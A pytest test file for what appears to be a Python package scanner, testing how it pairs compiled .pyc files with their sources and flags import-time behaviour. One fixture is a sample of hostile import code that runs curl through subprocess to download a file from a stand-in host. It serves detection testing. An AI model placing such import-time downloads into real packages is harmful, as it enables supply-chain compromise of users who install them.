"""Compiled files beside, without and against their sources."""

from __future__ import annotations

import importlib.util
import marshal
from collections.abc import Mapping

import pytest

from stockade import limits
from stockade.analyse.engine import analyse
from stockade.analyse.files.compiled import CompiledFiles, State, is_compiled, source_path
from stockade.model.artifact import Kind, Member
from stockade.model.assessment import Findings
from stockade.model.evidence import GapKind, Phase
from stockade.model.project import Digest
from tests.support.archives import Content, wheel, wheel_name


def compiled(source: str) -> bytes:
    """The compiled file of a source."""
    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(source, "mod.py", "exec"))


def findings(files: Mapping[str, Content]) -> Findings:
    """All that is said of a wheel."""
    data = wheel("demo", "1.0", files)
    return analyse(data, filename=wheel_name("demo", "1.0"), kind=Kind.WHEEL, sha256=Digest("0" * 64))


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("a/b.pyc", "a/b.py"),
        ("b.pyo", "b.py"),
        ("a/__pycache__/b.cpython-311.pyc", "a/b.py"),
        ("__pycache__/b.cpython-311.opt-1.pyc", "b.py"),
        ("a/b.py", ""),
        ("a/pyc", ""),
    ],
)
def test_where_the_source_would_lie(path: str, source: str) -> None:
    assert source_path(path) == source


def test_compiled_code_is_known_by_its_bytes() -> None:
    data = compiled("a = 1")
    assert is_compiled("x.bin", data)
    assert not is_compiled("x.bin", b"a\n\r\n" + data[4:])
    assert not is_compiled("x.txt", b"ab\r\nab\r\nab\r\nab\r\nab\r\nab\r\n")
    assert is_compiled("x.pyc", b"")


CACHED = "demo/__pycache__/__init__.cpython-311.pyc"
SOURCE = "import subprocess\n\nsubprocess.run(['curl', 'https://a.invalid/x', '-o', 'x'])\n"


def test_what_compiled_code_does_is_seen_when_it_would_run() -> None:
    found = findings({"demo/__init__.pyc": compiled(SOURCE)})
    told = {(one.detector, one.phase, one.where.file) for one in found.evidence}
    assert ("import-time-process", Phase.IMPORT, "demo/__init__.pyc") in told
    assert not [gap for gap in found.gaps if gap.kind is GapKind.LIMIT]


def test_compiled_code_that_agrees_is_said_once() -> None:
    alone = findings({"demo/__init__.py": SOURCE})
    both = findings({"demo/__init__.py": SOURCE, CACHED: compiled(SOURCE)})
    assert both.evidence == alone.evidence


@pytest.mark.parametrize("first", [True, False])
def test_agreement_does_not_depend_on_the_order(first: bool) -> None:
    pair: list[tuple[str, Content]] = [("demo/__init__.py", SOURCE), (CACHED, compiled(SOURCE))]
    files = dict(pair if first else pair[::-1])
    assert not [one for one in findings(files).evidence if one.detector.startswith("compiled")]


def test_words_in_comments_and_strings_are_no_agreement() -> None:
    harmless = f"'''\n{SOURCE}\n'''\n# subprocess.run curl\nimport json\n"
    files: dict[str, Content] = {"demo/__init__.py": harmless, CACHED: compiled(SOURCE)}
    told = {one.detector for one in findings(files).evidence}
    assert {"compiled-differs", "import-time-process"} <= told


def test_a_compiled_file_that_cannot_be_read_is_a_gap() -> None:
    found = findings({"demo/__init__.py": "", "demo/mod.pyc": compiled("a = 1")[:-5]})
    (gap,) = [gap for gap in found.gaps if gap.what == "demo/mod.pyc"]
    assert gap.kind is GapKind.LIMIT


def test_what_waits_for_its_source_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_HELD", 0)
    files = CompiledFiles(["a.py", "__pycache__/a.cpython-311.pyc"])
    data = compiled("a = 1")
    look = files.look(Member(path="__pycache__/a.cpython-311.pyc", size=len(data)), data, Phase.IMPORT)
    assert look.text is not None
    assert [one.state for one in files.facts()] == [State.ALONE]
    assert list(files.rest()) == []
